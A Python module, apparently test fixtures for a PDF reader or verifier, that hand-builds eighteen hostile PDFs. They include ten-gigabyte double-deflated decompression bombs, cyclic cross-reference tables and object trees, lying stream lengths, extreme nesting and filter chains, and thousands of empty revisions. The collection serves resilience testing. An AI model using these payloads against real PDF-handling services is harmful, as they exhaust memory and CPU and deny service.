"""PDFs made to hurt whoever opens them: bombs, loops, lies about length, endless revisions (ISO 32000-2, 7.5).

Each is small on disk and built by hand, object by object. It signs nothing.
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable, Mapping
from typing import Final

from pypdf import PdfWriter

BLOCK: Final = 64 << 20
TEN_GIGABYTES: Final = 160


def inflating(blocks: int = TEN_GIGABYTES, body: bytes = bytes(BLOCK)) -> bytes:
    """A zlib stream of `blocks` times `body`; a full flush makes each block stand alone, so that it can repeat."""
    packer = zlib.compressobj(9)
    first = packer.compress(body) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(body) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * (blocks - 1) + packer.flush()


def bomb() -> bytes:
    """Ten gigabytes of zeros, deflated twice: some kilobytes."""
    return zlib.compress(inflating(), 9)


def stream(data: bytes, entries: str = "") -> bytes:
    """A stream object's body."""
    return f"<< /Length {len(data)} {entries} >>\nstream\n".encode() + data + b"\nendstream"


def written(objects: Mapping[int, bytes], trailer: str = "/Root 1 0 R") -> bytes:
    """A PDF of these objects with a table of cross-references."""
    made = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(made)
        made += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    start, size = len(made), max(objects) + 1
    made += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
    for number in range(1, size):
        entry = f"{offsets[number]:010} 00000 n \n" if number in offsets else "0000000000 00001 f \n"
        made += entry.encode()
    made += f"trailer\n<< /Size {size} {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(made)


PAGES: Final = {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"}
PAGE: Final = {3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"}


def _catalog(entries: str = "") -> Mapping[int, bytes]:
    return {1: f"<< /Type /Catalog /Pages 2 0 R {entries} >>".encode(), **PAGES, **PAGE}


def attached(snapshot: bytes, entries: str = "") -> bytes:
    """A file of one page with an attachment snapshot.json, not signed."""
    return _around(stream(snapshot, f"/Type /EmbeddedFile {entries}"))


def _around(file: bytes) -> bytes:
    names = "/Names << /EmbeddedFiles << /Names [(snapshot.json) 4 0 R] >> >>"
    spec = b"<< /Type /Filespec /F (snapshot.json) /UF (snapshot.json) /EF << /F 5 0 R >> >>"
    return written({**_catalog(names), 4: spec, 5: file})


def attachment_bomb() -> bytes:
    """snapshot.json inflates to ten gigabytes."""
    return attached(bomb(), "/Filter [/FlateDecode /FlateDecode]")


def deep_snapshot() -> bytes:
    """snapshot.json is an array in an array, 10⁵ deep."""
    return attached(b"[" * 100_000 + b"]" * 100_000)


def many_attachments() -> bytes:
    """Six hundred attachments of one name, each of which inflates to the most that the reader allows."""
    packed = zlib.compress(inflating(1, bytes(70 * 10**6)), 9)
    file = stream(packed, "/Type /EmbeddedFile /Filter [/FlateDecode /FlateDecode]")
    specs = {
        number: f"<< /Type /Filespec /UF (snapshot.json) /EF << /F {number + 1} 0 R >> >>".encode()
        for number in range(6, 1206, 2)
    }
    pairs = " ".join(f"(snapshot.json) {number} 0 R" for number in specs)
    names = f"/Names << /EmbeddedFiles << /Names [{pairs}] >> >>"
    return written({**_catalog(names), **specs, **dict.fromkeys((n + 1 for n in specs), file)})


def long_snapshot() -> bytes:
    """snapshot.json is a list of seventy million digits in brackets: right JSON that no memory takes."""
    numbers = b"[" + b"[]," * 23_000_000 + b"[]]"
    return attached(zlib.compress(numbers, 9), "/Filter /FlateDecode")


def object_stream_bomb() -> bytes:
    """The form lies in an object stream that inflates to ten gigabytes, and so does the table that says so."""
    table = b"".join(
        bytes([kind]) + at.to_bytes(4, "big") + index.to_bytes(2, "big")
        for kind, at, index in ((0, 0, 0), (1, 9, 0), (2, 3, 0), (1, 90, 0))
    )
    head = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /AcroForm 2 0 R /Pages 2 0 R >>\nendobj\n".ljust(90)
    packed = stream(bomb(), "/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]")
    body = head + b"3 0 obj\n" + packed + b"\nendobj\n"
    entries = "/Type /XRef /W [1 4 2] /Size 4 /Root 1 0 R"
    return (
        body + b"4 0 obj\n" + stream(table, entries) + f"\nendobj\nstartxref\n{len(body)}\n%%EOF\n".encode()
    )


def table_bomb() -> bytes:
    """The table of cross-references itself inflates to ten gigabytes."""
    entries = "/Type /XRef /W [1 4 2] /Size 4 /Root 1 0 R /Filter [/FlateDecode /FlateDecode]"
    return b"%PDF-1.7\n4 0 obj\n" + stream(bomb(), entries) + b"\nendobj\nstartxref\n9\n%%EOF\n"


def table_loop() -> bytes:
    """The table before this one is this one."""
    made = written(_catalog())
    at = int(made.rsplit(b"startxref\n", 1)[1].split()[0])
    return made.replace(b"/Root 1 0 R", f"/Root 1 0 R /Prev {at}".encode())


def page_loop() -> bytes:
    """The tree of pages is its own branch, as are the trees of names and of form fields."""
    tree = "/AcroForm << /Fields [6 0 R] >> /Names << /EmbeddedFiles 7 0 R >>"
    return written(
        {
            **_catalog(tree),
            2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>",
            6: b"<< /T (a) /FT /Sig /Kids [6 0 R 6 0 R] >>",
            7: b"<< /Kids [7 0 R 7 0 R] >>",
        }
    )


def length_loop() -> bytes:
    """The length of the attachment is said by the attachment."""
    return _around(stream(b"{}").replace(b"/Length 2", b"/Length 5 0 R"))


def length_lie() -> bytes:
    """The attachment claims to be a terabyte long."""
    return _around(stream(b"{}").replace(b"/Length 2", b"/Length 999999999999"))


def deep_array() -> bytes:
    """An array in an array, 10⁵ deep, where the form should be."""
    return written({**_catalog("/AcroForm 6 0 R"), 6: b"[" * 100_000 + b"]" * 100_000})


def reference_chain() -> bytes:
    """The form is a reference to a reference to itself."""
    return written({**_catalog("/AcroForm 6 0 R"), 6: b"7 0 R", 7: b"6 0 R"})


def field_tree() -> bytes:
    """A form of sixty fields, each twice the branch of the one before: 2⁶⁰ paths."""
    tree = {n: f"<< /T (a) /FT /Sig /Kids [{n + 1} 0 R {n + 1} 0 R] >>".encode() for n in range(100, 160)}
    form = _catalog("/AcroForm << /Fields [100 0 R] >>")
    return written({**form, **tree, 160: b"<< /T (a) /FT /Sig >>"})


def filter_chain() -> bytes:
    """A hundred thousand filters, one over the other."""
    return attached(b"41>", f"/Filter [{'/ASCIIHexDecode ' * 100_000}]")


def table_ring() -> bytes:
    """Two tables of cross-references, each the one before the other."""
    made = written(_catalog())
    ring = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return made + ring % (len(made), len(made))


def endless_table() -> bytes:
    """A table of cross-references that claims two billion entries."""
    return written(_catalog()).replace(b"xref\n0 4\n", b"xref\n0 2000000000\n")


def encrypted() -> bytes:
    """A file under a password."""
    writer = PdfWriter()
    writer.add_blank_page(9, 9)
    writer.encrypt("секрет", algorithm="RC4-128")
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def many_revisions(pdf: bytes | None = None, count: int = 10_000) -> bytes:
    """A file with `count` revisions that change nothing, each pointing at the one before."""
    made = bytearray(pdf or written(_catalog()))
    *_, before = re.findall(rb"startxref\s+(\d+)", made)
    trailer = b" ".join(re.findall(rb"/(?:Size|Root|Info) [0-9 R]+", made[made.rfind(b"/Size") :]))
    for _ in range(count):
        start = str(len(made)).encode()
        made += b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< %b /Prev %b >>\n" % (trailer, before)
        made += b"startxref\n%b\n%%%%EOF\n" % start
        before = start
    return bytes(made)


ATTACKS: Final[Mapping[str, Callable[[], bytes]]] = {
    make.__name__: make
    for make in (
        attachment_bomb,
        deep_snapshot,
        many_attachments,
        long_snapshot,
        object_stream_bomb,
        table_bomb,
        table_loop,
        page_loop,
        length_loop,
        length_lie,
        deep_array,
        reference_chain,
        field_tree,
        filter_chain,
        table_ring,
        endless_table,
        encrypted,
        many_revisions,
    )
}
